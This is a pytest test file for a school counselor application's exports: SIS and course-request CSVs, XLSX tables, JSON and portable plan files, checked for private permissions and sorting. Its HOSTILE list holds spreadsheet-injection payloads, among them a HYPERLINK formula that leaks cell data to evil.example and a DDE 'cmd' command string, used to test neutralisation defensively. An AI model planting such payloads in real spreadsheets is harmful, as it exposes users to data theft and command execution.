"""Exports for the SIS and other platforms: safe to open in a spreadsheet, private,
sorted by collation; next year's course requests; the portable plan layout."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from counselor_app.domain import Course, Student
from counselor_app.services.exchange import export_json
from counselor_app.services.export_files import neutralize, write_table
from counselor_app.services.imports import apply_import, preview_import
from counselor_app.services.plans import add_course, create_plan
from counselor_app.services.portable_plan import export_portable
from counselor_app.services.sis_export import (
    course_requests,
    export_course_requests,
    export_sis_csv,
    sis_rows,
)
from counselor_app.store.engine import Database

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "=cmd|' /C calc'!A0",
           "+SUM(1)", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_neutralised(value: str) -> None:
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["-1.5", "+3", "Ana", "", "O'Brien", "12-3"])
def test_plain_values_are_left_alone(value: str) -> None:
    assert neutralize(value) == value


def _students(db: Database, tmp_path: Path, rows: list[tuple[str, str, str, int]]) -> None:
    path = tmp_path / "roster.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Student ID", "Last Name", "First Name", "Grade"])
        writer.writerows(rows)
    apply_import(db, "students", path)


def _pk(db: Database, sid: str) -> int:
    with db.read() as s:
        pk = s.scalar(select(Student.id).where(Student.student_id == sid))
    assert pk is not None
    return pk


def test_injection_round_trip_through_the_sis_csv(db: Database, tmp_path: Path) -> None:
    _students(db, tmp_path, [("1", HOSTILE[0], HOSTILE[1], 9), ("2", "Plain", "Ana", 10)])
    preview = preview_import(db, "students", tmp_path / "roster.csv")
    assert preview.ok  # already imported; the values were warned about on the way in
    out = tmp_path / "sis.csv"
    assert export_sis_csv(db, out, include_without_plan=True) == 2
    rows = list(csv.reader(out.open(encoding="utf-8")))
    cells = {c for row in rows[1:] for c in row}
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert out.stat().st_mode & 0o777 == 0o600


def test_xlsx_exports_store_text_never_formulas(tmp_path: Path) -> None:
    path = write_table(tmp_path / "t.xlsx", ["Name"], [[HOSTILE[0]], ["ok"]])
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    assert ws["A2"].data_type == "s"
    assert path.stat().st_mode & 0o777 == 0o600


def test_json_export_is_private(db: Database, tmp_path: Path) -> None:
    out = tmp_path / "all.json"
    export_json(db, out)
    assert out.stat().st_mode & 0o777 == 0o600


def test_sis_csv_is_sorted_by_collation(db: Database, tmp_path: Path) -> None:
    _students(db, tmp_path, [("1", "Zimmer", "Ana", 9), ("2", "Ávila", "Li", 9),
                             ("3", "de la Cruz", "Ada", 9), ("4", "avila", "Bo", 9),
                             ("5", "Dale", "Jo", 9)])
    names = [r[1] for r in sis_rows(db, include_without_plan=True)]
    assert names == ["avila", "Ávila", "Dale", "de la Cruz", "Zimmer"]


def _catalog(db: Database) -> list[str]:
    with db.read() as s:
        return list(s.scalars(select(Course.code).where(Course.grade_low <= 10)
                              .order_by(Course.code).limit(3)))


def _plans(db: Database, tmp_path: Path) -> list[str]:
    _students(db, tmp_path, [("100", "Rivera", "Ana", 9), ("200", "Chen", "Li", 12),
                             ("300", "Okafor", "Ada", 10)])
    codes = _catalog(db)
    ana = create_plan(db, _pk(db, "100"), "Ana's plan")
    add_course(db, ana, codes[0], 10)
    add_course(db, ana, codes[1], 10)
    add_course(db, ana, codes[2], 11)  # not next year
    create_plan(db, _pk(db, "200"), "Senior")
    create_plan(db, _pk(db, "300"), "Empty")
    return codes


@pytest.mark.parametrize("layout,header,first", [
    ("powerschool", ["Student_Number", "Course_Number", "YearID"], None),
    ("infinite-campus", ["Student Number", "Course Number", "Course Name", "Grade"], None),
    ("generic", ["Student ID", "Last Name", "First Name", "Next Grade", "School Year",
                 "Course Code", "Course Title", "Term", "Credits"], None),
])
def test_next_years_course_requests(db: Database, tmp_path: Path, layout: str,
                                    header: list[str], first: None) -> None:
    codes = _plans(db, tmp_path)
    today = dt.date(2026, 12, 1)
    preview = course_requests(db, layout, today=today)
    assert preview.students == 1 and len(preview.rows) == 2
    assert preview.without_requests == ["300"] and preview.finishing == 1
    assert "2 course requests for 1 student (2027-2028)" in preview.summary()
    out = tmp_path / f"{layout}.csv"
    export_course_requests(db, out, layout, today=today)
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows[0] == header
    if layout == "powerschool":
        assert rows[1:] == [["100", codes[0], "37"], ["100", codes[1], "37"]]
    elif layout == "infinite-campus":
        assert rows[1][:2] == ["100", codes[0]] and rows[1][3] == "10"
    else:
        assert rows[1][:5] == ["100", "Rivera", "Ana", "10", "2027-2028"]
    assert out.stat().st_mode & 0o777 == 0o600


def test_portable_plan_export(db: Database, tmp_path: Path) -> None:
    codes = _plans(db, tmp_path)
    out = tmp_path / "plans.json"
    assert export_portable(db, out, today=dt.date(2026, 12, 1)) == 3
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["format"] == "portable-education-plan"
    ana = next(p for p in doc["plans"] if p["student"]["localId"] == "100")
    years = {y["gradeLevel"]: y for y in ana["coursePlan"]}
    assert years["10"]["schoolYear"] == "2027-2028"
    assert [c["courseCode"] for c in years["10"]["courses"]] == codes[:2]
    assert "notes" not in ana["plan"]  # counselor-only notes never leave
    assert out.stat().st_mode & 0o777 == 0o600
